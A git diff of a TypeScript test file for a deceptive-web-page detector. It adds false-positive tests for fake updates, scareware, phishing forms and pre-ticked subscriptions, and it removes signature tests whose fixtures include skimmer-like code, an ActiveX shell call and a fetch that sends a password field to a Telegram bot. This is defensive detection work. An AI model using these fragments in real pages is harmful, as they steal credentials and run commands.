@@ -1,7 +1,6 @@
 import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
 import type { ObservationOf } from '@adsweep/shared/capture/observations/index.ts';
-import { matchingSignatures } from '../../../src/analysis/detectors/deception/malicious-script.ts';
 import { detect } from '../../../src/analysis/detectors/detect.ts';
 import { NO_EVIDENCE } from '../../../src/analysis/evidence/evidence.ts';
 import { documentOf, observed, PAGE, slugsOf } from '../../support/detected.ts';
@@ -327,6 +326,78 @@ describe('§2.5.13 harmless pages that share words with deceptive ones', () => {
       assert.deepEqual([ticked(text), small(text)], Array(2).fill(['forced_subscription']), text);
   });
 
+  it('a vendor that offers its own program beside the hint of an old browser is no fake_update', () => {
+    const url = 'https://www.acme-editor.example/';
+    const hint = 'Your browser is out of date. Update your browser to see everything.\nAcme Editor 5.1';
+    const slugs = (html: string, text = hint) => slugsOf({ url, text, html });
+    assert.deepEqual(slugs('<a href="/files/acme-editor-5.1.exe">Download for Windows</a>'), []);
+    assert.deepEqual(slugs('<a href="https://files.example/AcmeEditor.dmg">Download Acme Editor</a>'), []);
+    assert.deepEqual(slugs('<a href="/get?id=1" download="">Acme Editor herunterladen</a>'), []);
+    for (const html of [
+      '<a href="/files/setup.exe">Download</a>',
+      '<a href="https://files.example/acme-editor-5.1.exe">Download</a>',
+      '<a href="/files/acme-editor-5.1.exe">Update now</a>',
+      '<a href="/files/acme-editor-chrome.exe">Download for Windows</a>',
+    ])
+      assert.deepEqual(slugs(html), ['fake_update'], html);
+    const prompt = {
+      text: 'Your browser is out of date.',
+      html: '<a href="/browser-fix.exe">Download Browser Fix</a>',
+    };
+    assert.deepEqual(slugsOf({ ...prompt, url: 'https://browser-fix.example/' }), ['fake_update']);
+    const saved = (file_name: string) =>
+      slugsOf({ url, text: hint }, [
+        observed('auto_download', { file_name, file_url: `${url}files/${file_name}` }, 0, url),
+      ]);
+    assert.deepEqual(saved('acme-editor-5.1.exe'), ['auto_download']);
+    assert.deepEqual(saved('setup.exe'), ['auto_download', 'fake_update']);
+  });
+
+  it('a shop that repairs hacked devices is no scareware, unless the page says what it has found or holds its visitor', () => {
+    for (const shop of [
+      'Your PC has been hacked. We repair it today.\nOpening hours: Mon-Fri 9-18\nCall us now: +49 30 5550 1234',
+      'Your computer is infected. Our workshop repairs it, do not ignore this.\nContact our support: +49 30 5550 1234',
+      'Ihr PC wurde gehackt. Wir reparieren ihn sofort.\nÖffnungszeiten: 9-18 Uhr\nRufen Sie jetzt an: +49 30 5550 1234',
+      "Votre ordinateur est piraté. Nous le réparons.\nHeures d'ouverture: 9-18 h\nAppelez le support: 01 23 45 67 89",
+    ]) {
+      assert.deepEqual(slugsOf({ title: shop.slice(0, 30), text: shop }), [], shop);
+      assert.deepEqual(slugsOf({ text: shop }, [observed('dialogs', { count: 1 })]), ['scareware'], shop);
+      assert.deepEqual(slugsOf({ text: `${shop}\n3 viruses were found` }), ['scareware'], shop);
+    }
+    const call = 'Your PC has been hacked. We repair it today.\nCall us now: +49 30 5550 1234';
+    assert.deepEqual(slugsOf({ text: call }), ['scareware']);
+  });
+
+  it('an account that a checkout lists among the ways to pay is no phishing_form', () => {
+    const checkout = 'Zahlungsart\nKreditkarte\nPayPal Konto\nRechnung\nKartennummer\nPrüfziffer';
+    const slugs = (text: string) => slugsOf({ title: 'Kasse' }, [form({ fields: ['card_number', 'password'], text })]);
+    assert.deepEqual(slugs(checkout), []);
+    assert.deepEqual(slugs('Credit card\nKlarna\nPayPal account\nCard number'), []);
+    assert.deepEqual(slugs('PayPal Konto\nKartennummer\nPrüfziffer'), ['phishing_form']);
+    assert.deepEqual(slugs(checkout.replace('PayPal Konto', 'PayPal Konto bestätigen')), ['phishing_form']);
+    assert.deepEqual(slugs(checkout.replace('PayPal Konto', 'Sparkasse Konto')), ['phishing_form']);
+  });
+
+  it('a ticked box for mails with a limit or a discount is no forced_subscription', () => {
+    const ticked = (label: string) => slugsOf({}, [observed('preselected', { label })]);
+    for (const label of [
+      'Weekly deals under $10',
+      'Send me weekly offers with up to 50 € off',
+      'Monatlicher Newsletter mit 5 € Gutschein',
+      'Wöchentliche Angebote unter 10 Euro',
+      'Offres hebdomadaires: moins de 20 €',
+    ])
+      assert.deepEqual(ticked(label), [], label);
+    for (const label of [
+      'Weekly deals for $10',
+      'Deals club under $10 a week',
+      'Deals club for up to 9.99 € per month',
+      'Weekly deals under $10, then $39.90',
+      'VIP club, billed weekly, under $10',
+    ])
+      assert.deepEqual(ticked(label), ['forced_subscription'], label);
+  });
+
   it('a form without a server of its own that asks for the number of an identity card is no phishing_form', () => {
     const sent = (fields: ObservationOf<'form'>['facts']['fields']) =>
       slugsOf({}, [form({ fields, action_url: 'https://script.google.com/macros/s/1/exec' })]);
@@ -340,34 +411,5 @@ describe('§2.5.13 harmless pages that share words with deceptive ones', () => {
     assert.deepEqual(signUp('Sign in to your Telegram account'), ['phishing_form']);
     assert.deepEqual(signUp('Your Facebook account will be disabled'), ['phishing_form']);
     assert.deepEqual(signUp('Your PayPal account'), ['phishing_form']);
-  });
-});
-
-describe('§2.5.13 scripts that contain everything somewhere', () => {
-  const names = (script: string) => matchingSignatures(script).map(({ name }) => name);
-  const filler = ';var borderColor=1'.repeat(400);
-
-  it('a bundle with a picture or a source map in base64 is no skimmer of card numbers', () => {
-    const picture = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>').toString('base64');
-    const map = Buffer.from('{"a":1,"file":"https://shop.example/"}').toString('base64');
-    const pays = 'atob(key);input.name="cvv";location="/checkout";fetch(url)';
-    for (const data of [`"data:image/svg+xml;base64,${picture}"`, `"${map}"`, '"/out?to=aHR0cHM6Ly9zaG9wLmV4YW1wbGUv"'])
-      assert.deepEqual(names(`x=${data};${pays}`), [], data);
-    assert.deepEqual(names(`x="aHR0cHM6Ly9zaG9wLmV4YW1wbGUv";${pays}`), ['a skimmer of card numbers']);
-    assert.deepEqual(names(`x="a|aHR0cHM6Ly9zaG9wLmV4YW1wbGUv".split("|");${pays}`), ['a skimmer of card numbers']);
-  });
-
-  it('a script that sets up the printer of an old browser, and parses a text elsewhere, starts no program', () => {
-    const prints = 'new ActiveXObject("WScript.Shell").RegWrite("HKCU\\\\header","")';
-    assert.deepEqual(names(`${prints}${filler}/a/.exec(text)`), []);
-    assert.deepEqual(names(`${filler}${prints};shell.exec("cmd")`), ['a program that is started by ActiveX']);
-  });
-
-  it('a bundle whose contact form writes to a messenger is no thief of passwords', () => {
-    const sends = 'fetch("https://api.telegram.org/bot1:a/sendMessage",{body:phone.value})';
-    const library = 'var inputs={password:!0};';
-    assert.deepEqual(names(library + filler + sends), []);
-    assert.deepEqual(names(sends.replace('phone', 'password') + filler), ['a thief of passwords']);
-    assert.deepEqual(names(`${sends}${filler}${sends.replace('phone', 'password')}`), ['a thief of passwords']);
   });
 });
